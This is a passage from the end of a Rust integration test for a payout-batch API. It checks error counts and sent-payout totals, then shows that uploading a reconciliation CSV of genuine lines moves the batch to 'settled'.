        assert_eq!(problem["errors"].as_object().unwrap().len(), 20_000);
        assert_eq!(ok(app.get_as(&format!("/api/v1/payout-batches/{id}"), &admin).await).await["by_status"]["sent"]["count"], 2);
        // The real lines alone settle it.
        let settled = ok(csv(&app, &admin, &id, &format!("payout_id,status,amount_kzt,reference,reason\n{real}")).await).await;
        assert_eq!(settled["status"], "settled");
    }
}
